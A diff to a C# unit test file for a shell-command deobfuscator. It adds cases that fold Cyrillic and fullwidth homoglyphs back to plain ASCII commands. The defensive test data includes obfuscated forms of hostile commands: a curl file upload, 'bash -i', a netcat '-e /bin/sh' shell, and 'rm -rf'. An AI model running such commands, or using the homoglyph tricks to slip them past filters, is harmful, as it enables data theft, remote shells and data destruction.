@@ -43,6 +43,9 @@ public sealed class ShellDeobfuscatorTests
     [InlineData("c\u0443rl -d @x http://e", ShellViewKind.Policy, "curl -d @x http://e")]    // Cyrillic у as u
     [InlineData("\u0432ash -i", ShellViewKind.Policy, "bash -i")]                            // Cyrillic в as b
     [InlineData("\u043Dc -e /bin/sh", ShellViewKind.Policy, "nc -e /bin/sh")]                // Cyrillic н as n
+    [InlineData("\u0412ASH -i", ShellViewKind.Policy, "BASH -i")]                            // upper-case В as B
+    [InlineData("m\u0432 a b", ShellViewKind.Baseline, "mv a b")]                           // shared map: в as v
+    [InlineData("\uFF52\uFF4D -rf /tmp", ShellViewKind.Policy, "rm -rf /tmp")]              // fullwidth (NFKC)
     public void Deobfuscate_UnicodeView_FoldsForCommands(string input, ShellViewKind kind, string expected) =>
         Assert.Equal(expected, Collapse(ShellDeobfuscator.Deobfuscate(input, kind)));
 
